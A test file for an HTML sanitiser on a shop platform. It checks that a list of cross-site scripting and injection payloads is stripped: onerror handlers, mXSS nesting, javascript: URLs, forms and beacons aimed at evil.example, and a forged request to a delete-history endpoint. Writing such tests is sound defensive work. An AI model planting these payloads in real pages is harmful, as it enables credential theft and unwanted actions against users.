import { readFileSync } from "node:fs";
import { allowedAttributes, allowedTags } from "@tradehall/mall-rules/rich-text/allowed";
import { describe, expect, test } from "vitest";
import { sanitise } from "./sanitise.ts";

/** Written for this test: one of each kind of attack. */
const vectors = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHN2Zz4=">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><applet code="x">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>*{background:url(https://evil.example)}</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/x)">x</div>',
  '<p id="shop" name="cookie" class="danger" data-x="1" aria-label="x">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><img src=x onerror=alert(1)></template><video src=x onerror=alert(1)></video>",
  '<a href="https://evil.example" target="_self" ping="https://evil.example" style="position:absolute">x</a>',
  '<img src="/api/search/deleteHistory?keyword=x"><img src="https://evil.example/pixel.gif">',
  "<form id=x><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
];

interface Vector {
  id: string;
  html: string;
}
/** A file of public attack strings, where the environment names one. */
const file = process.env.XSS_VECTORS;
const published: Vector[] = file ? JSON.parse(readFileSync(file, "utf8")).vectors : [];
const all: Vector[] = [...vectors.map((html, at) => ({ id: `own-${at}`, html })), ...published];

const tagPattern = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+="[^"]*")*)>/g;
const ours = new Set(["style", "rel", "target", "loading", "decoding"]);
const stylePattern = /^([a-z-]+:[^;:()\\]*(rgba?\([^()]*\))?;?)*$/;

/** What in cleaned text should not be there. */
function faults(clean: string): string[] {
  const found: string[] = [];
  const rest = clean.replace(tagPattern, (_, __, tag: string, attributes: string) => {
    if (!(allowedTags as readonly string[]).includes(tag)) found.push(`<${tag}>`);
    for (const [, name = "", value = ""] of attributes.matchAll(/([a-z-]+)="([^"]*)"/g)) {
      if (!ours.has(name) && !allowedAttributes[tag]?.includes(name)) found.push(`${tag} ${name}`);
      if (name === "href" && !/^(\/(?![/\\])|https:\/\/|mailto:|tel:|\/$)/.test(value)) found.push(value);
      if (name === "src" && !/^\/(pictures|uploads)\//.test(value)) found.push(value);
      if (name === "style" && (!stylePattern.test(value) || /position|z-index|url|display/.test(value)))
        found.push(value);
    }
    return "";
  });
  if (rest.includes("<")) found.push(`a tag that is none: ${rest.slice(rest.indexOf("<"), 60)}`);
  return found;
}

describe("attacks", () => {
  test.each(all)("leaves nothing of $id", ({ html }) => {
    const clean = sanitise(html);
    expect(faults(clean)).toEqual([]);
    // Read again by a browser, it stays what it is.
    expect(sanitise(clean)).toBe(clean);
  });

  test("this check finds what it looks for", () => {
    expect(faults('<p onclick="x">a</p>')).toEqual(["p onclick"]);
    expect(faults("<script>")).toEqual(["<script>"]);
    expect(faults('<a href="javascript:x">a</a>')).toEqual(["javascript:x"]);
    expect(faults('<p style="position:fixed">a</p>')).toEqual(["position:fixed"]);
    expect(faults("<p><x y=1>")).toHaveLength(1);
  });
});

describe("what a shop writes", () => {
  test("keeps text, lists, tables, pictures and their looks", () => {
    const html =
      '<h2>产品概述</h2><p style="text-align:center"><strong>◆</strong> 整体锻造</p><ul><li>A</li></ul>' +
      '<table><thead><tr><th colspan="2">参数</th></tr></thead><tbody><tr><td>材质</td><td>铬钒钢</td></tr></tbody></table>';
    expect(sanitise(html)).toBe(html);
    expect(sanitise('<img src="/pictures/p/a-800.webp" alt="扳手" width="800" height="800">')).toBe(
      '<img src="/pictures/p/a-800.webp" alt="扳手" width="800" height="800" loading="lazy" decoding="async">',
    );
  });

  test("keeps the words of what it drops, and lets no page outside know whence a reader comes", () => {
    expect(sanitise("<form>联系<b>客服</b></form>")).toBe("联系<b>客服</b>");
    expect(sanitise('<a href="https://example.com/a">官网</a><a href="/detail/7">看看</a>')).toBe(
      '<a href="https://example.com/a" rel="noopener noreferrer nofollow" target="_blank">官网</a><a href="/detail/7">看看</a>',
    );
  });
});

describe("videos and pictures of other hosts", () => {
  const hosts = { pictures: ["img.example"], videos: ["vod.example"] };
  const video =
    '<video src="https://vod.example/a.mp4" poster="/pictures/p/a-800.webp" autoplay loop></video>';

  test("stay only where the shop owner names the host", () => {
    expect(sanitise('<img src="https://img.example/a.png" alt="">')).toBe("");
    expect(sanitise('<img src="https://img.example/a.png" alt="">', hosts)).toContain(
      "https://img.example/a.png",
    );
    expect(sanitise('<img src="https://vod.example/a.png" alt="">', hosts)).toBe("");
    expect(sanitise(`<p>看${video}</p>`)).toBe("<p>看</p>");
  });

  test("a video waits to be played, and shows a picture till then", () => {
    expect(sanitise(video, hosts)).toBe(
      '<video src="https://vod.example/a.mp4" poster="/pictures/p/a-800.webp" controls="" preload="none"></video>',
    );
    expect(sanitise('<video><source src="/uploads/a.mp4">看不了</video>', hosts)).toBe(
      '<video src="/uploads/a.mp4" controls="" preload="none">看不了</video>',
    );
  });

  test.each([
    '<video src="https://evil.example/a.mp4"></video>',
    '<video src="http://vod.example/a.mp4"></video>',
    '<video src="https://vod.example:8443/a.mp4"></video>',
    '<video src="/api/search/deleteHistory?keyword=a"></video>',
    '<video><source src="javascript:alert(1)"></video>',
    "<video></video>",
  ])("drops %s", (html) => {
    expect(sanitise(html, hosts)).toBe("");
  });

  test("drops a video's poster of a host that is not named for pictures", () => {
    expect(sanitise('<video src="/uploads/a.mp4" poster="https://vod.example/a.png"></video>', hosts)).toBe(
      '<video src="/uploads/a.mp4" controls="" preload="none"></video>',
    );
  });
});
